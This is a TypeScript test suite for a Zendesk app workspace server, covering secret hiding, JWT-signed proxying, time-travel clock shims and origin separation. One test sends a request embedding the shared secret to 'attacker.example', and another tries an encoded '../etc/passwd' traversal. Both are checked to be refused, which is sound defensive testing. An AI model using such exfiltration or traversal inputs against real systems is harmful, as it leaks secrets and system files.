/**
 * The workspace server over real sockets: a seeded simulator door, a stand-in service that records what reaches it,
 * and the workspace on ephemeral ports.
 */
import { mkdtempSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { jwtVerify } from 'jose';
import { createSimulator, type ZendeskSimulator } from '../zendesk-simulator/model.js';
import { seedGitLabAccount, type SeedResult } from '../zendesk-simulator/seed.js';
import { startSimulatorServer, type RunningSimulatorServer } from '../zendesk-simulator/server.js';
import { clockShim, startWorkspaceServer, type RunningWorkspace } from './server.js';

const SECRET = 'workspace-test-secret-0123456789abcdefghij';
const START = new Date('2026-11-24T17:00:00Z');

let sim: ZendeskSimulator;
let seed: SeedResult;
let simServer: RunningSimulatorServer;
let service: Server;
let servicePort: number;
let workspace: RunningWorkspace;
let dist: string;
const received: { url: string; headers: IncomingHttpHeaders }[] = [];

beforeAll(async () => {
  sim = createSimulator({ now: () => START });
  seed = seedGitLabAccount(sim, sim.now());
  simServer = await startSimulatorServer({ sim, port: 0 });
  service = createServer((req, res) => {
    received.push({ url: req.url ?? '', headers: req.headers });
    res.writeHead(200, { 'Content-Type': 'application/json', 'Set-Cookie': 'session=leak' });
    res.end('{"commitments":[]}');
  });
  await new Promise<void>((resolve) => service.listen(0, '127.0.0.1', () => resolve()));
  servicePort = (service.address() as AddressInfo).port;
  dist = mkdtempSync(join(tmpdir(), 'ws-dist-'));
  mkdirSync(join(dist, 'assets'));
  writeFileSync(join(dist, 'assets/index.html'), '<!doctype html><html><head><title>app</title></head><body></body></html>');
  writeFileSync(join(dist, 'manifest.json'), '{"name":"app"}');
  const agent = seed.agents[0]!;
  workspace = await startWorkspaceServer({
    port: 0,
    appPort: 0,
    hostEntry: join(__dirname, 'host/page.ts'),
    appDist: dist,
    zendeskOrigin: new URL(simServer.baseUrl).origin,
    subdomain: 'gitlab',
    agent: { id: agent.id, name: agent.name, email: agent.email, groups: [{ id: agent.groupId, name: 'Support AMER' }], timeZone: 'America/Los_Angeles' },
    installation: {
      settings: { service_url: `http://127.0.0.1:${servicePort}`, shared_secret: SECRET, warning_window_minutes: '120' },
      secureSettings: ['shared_secret'],
      domainWhitelist: ['127.0.0.1'],
    },
    appId: 1,
    installationId: 360000000001,
    appVersion: '0.1.0',
    now: () => sim.now(),
    timeTravel: async (input) => {
      if (input.advanceMinutes !== undefined) sim.advanceClock(input.advanceMinutes * 60_000);
      return sim.now();
    },
  });
});

afterAll(async () => {
  await workspace.close();
  await simServer.close();
  await new Promise((resolve) => service.close(resolve));
  rmSync(dist, { recursive: true, force: true });
});

/** The app's `client.request` for the agent's commitments, as the sidebar's service client sends it. */
const COMMITMENTS_REQUEST = {
  url: '{{setting.service_url}}/v1/agents/me/commitments',
  type: 'GET',
  secure: true,
  headers: { Authorization: 'Bearer {{jwt.token}}' },
  jwt: { algorithm: 'HS256', secret_key: '{{setting.shared_secret}}', expiry: 60, claims: { sub: '1000002', iss: 'gitlab.zendesk.com', aud: 'triage-assistant' } },
};

describe('workspace server', () => {
  it('describes the installation to the page without the secure secret', async () => {
    const res = await fetch(`${workspace.url}__workspace/config`);
    const text = await res.text();
    expect(text).not.toContain(SECRET);
    const body = JSON.parse(text) as Record<string, unknown>;
    expect(body['settings']).toEqual({ service_url: `http://127.0.0.1:${servicePort}`, warning_window_minutes: '120' });
    expect(body['appOrigin']).toBe(workspace.appOrigin);
    expect(body['now']).toBe('2026-11-24T17:00:00.000Z');
    expect(body['currentUser']).toMatchObject({ id: seed.agents[0]!.id, role: 'agent', timeZone: { ianaName: 'America/Los_Angeles' } });
  });

  it('serves the page and its bundled host script', async () => {
    expect(await (await fetch(workspace.url)).text()).toContain('<script type="module" src="/host.js">');
    const js = await (await fetch(`${workspace.url}host.js`)).text();
    expect(js).toContain('zaf.app.registered');
    expect(js).not.toContain(SECRET);
  });

  it('acts as the agent on /api/v2: a reply saved through the workspace is authored by the agent', async () => {
    const ticketId = seed.tickets['needsOrgGood']!;
    const res = await fetch(`${workspace.url}api/v2/tickets/${ticketId}.json`, {
      method: 'PUT',
      body: JSON.stringify({ ticket: { comment: { body: 'Looking into it', public: false } } }),
    });
    expect(res.status).toBe(200);
    const last = sim.ticketComments(ticketId).at(-1);
    expect(last).toMatchObject({ body: 'Looking into it', public: false, author_id: seed.agents[0]!.id });
  });

  it("proxies the app's request to the service with a JWT signed at Zendesk's (simulated) time", async () => {
    const res = await fetch(`${workspace.url}__workspace/app-request`, {
      method: 'POST',
      body: JSON.stringify(COMMITMENTS_REQUEST),
    });
    const answer = (await res.json()) as { status: number; responseText: string; headers: Record<string, string> };
    expect(answer.status).toBe(200);
    expect(answer.responseText).toBe('{"commitments":[]}');
    expect(answer.headers['set-cookie']).toBeUndefined();
    const call = received.at(-1)!;
    expect(call.url).toBe('/v1/agents/me/commitments');
    const token = String(call.headers['authorization']).replace('Bearer ', '');
    const { payload } = await jwtVerify(token, new TextEncoder().encode(SECRET), { currentDate: START, audience: 'triage-assistant' });
    // 2026-11-24T17:00:00Z = 1795539600 s (2026-01-01 = 1767225600, + 327 d + 17 h).
    expect(payload['iat']).toBe(1795539600);
  });

  it("holds the app's requests for the proxy hop it is set to, then answers them as before", async () => {
    const ask = async () => {
      const started = performance.now();
      const res = await fetch(`${workspace.url}__workspace/app-request`, {
        method: 'POST',
        body: JSON.stringify(COMMITMENTS_REQUEST),
      });
      const answer = (await res.json()) as { status: number; responseText: string };
      return { answer, ms: performance.now() - started };
    };
    workspace.setProxyHopMs(300);
    try {
      const held = await ask();
      expect(held.answer).toMatchObject({ status: 200, responseText: '{"commitments":[]}' });
      // A lower bound only (timers never fire early); no upper bound on a noisy machine.
      expect(held.ms).toBeGreaterThanOrEqual(299);
    } finally {
      workspace.setProxyHopMs(0);
    }
    expect(() => workspace.setProxyHopMs(-1)).toThrow('proxy hop must be a duration in ms ≥ 0, got -1');
  });

  it('answers a refused app request as a failed request that never shows the secret', async () => {
    const res = await fetch(`${workspace.url}__workspace/app-request`, {
      method: 'POST',
      body: JSON.stringify({ url: 'https://attacker.example/?k={{setting.shared_secret}}', type: 'GET', secure: true }),
    });
    const text = await res.text();
    expect(JSON.parse(text)).toMatchObject({ status: 403 });
    expect(text).toContain("attacker.example is not in the app's domainWhitelist");
    expect(text).not.toContain(SECRET);
  });

  it('serves the app on its own origin, follows time travel in its clock, and hides the manifest', async () => {
    expect(workspace.appOrigin).not.toBe(new URL(workspace.url).origin);
    const offsetOf = async () => {
      const html = await (await fetch(`${workspace.appOrigin}/assets/index.html`)).text();
      return Number(/\}\)\((-?\d+)\);<\/script><title>/.exec(html)?.[1]);
    };
    // The simulator's base clock is frozen at START: the app's Date is shifted by START − the real now, then + 1 h.
    expect(Math.abs((await offsetOf()) - (START.getTime() - Date.now()))).toBeLessThan(5_000);
    await fetch(`${workspace.url}__workspace/clock`, { method: 'POST', body: JSON.stringify({ advanceMinutes: 60 }) });
    expect(Math.abs((await offsetOf()) - (START.getTime() + 3_600_000 - Date.now()))).toBeLessThan(5_000);
    expect(clockShim(0)).toBe('');
    expect((await fetch(`${workspace.appOrigin}/manifest.json`)).status).toBe(404);
    expect((await fetch(`${workspace.appOrigin}/assets/..%2F..%2Fetc%2Fpasswd`)).status).toBe(404);
  });
});

describe('clockShim', () => {
  it('shifts "now" only: explicit instants, parsing and instanceof are untouched', () => {
    const script = clockShim(3_600_000).replace(/^<script>/, '').replace(/<\/script>$/, '');
    const win: { Date?: DateConstructor } = {};
    new Function('window', script)(win);
    const Shifted = win.Date!;
    expect(Math.abs(Shifted.now() - (Date.now() + 3_600_000))).toBeLessThan(1_000);
    expect(Math.abs(new Shifted().getTime() - (Date.now() + 3_600_000))).toBeLessThan(1_000);
    expect(new Shifted('2026-11-24T17:00:00Z').toISOString()).toBe('2026-11-24T17:00:00.000Z');
    expect(new Shifted(2026, 10, 24).getFullYear()).toBe(2026);
    expect(new Shifted() instanceof Date).toBe(true);
    expect(Shifted.parse('2026-11-24T17:00:00Z')).toBe(1795539600000);
  });
});
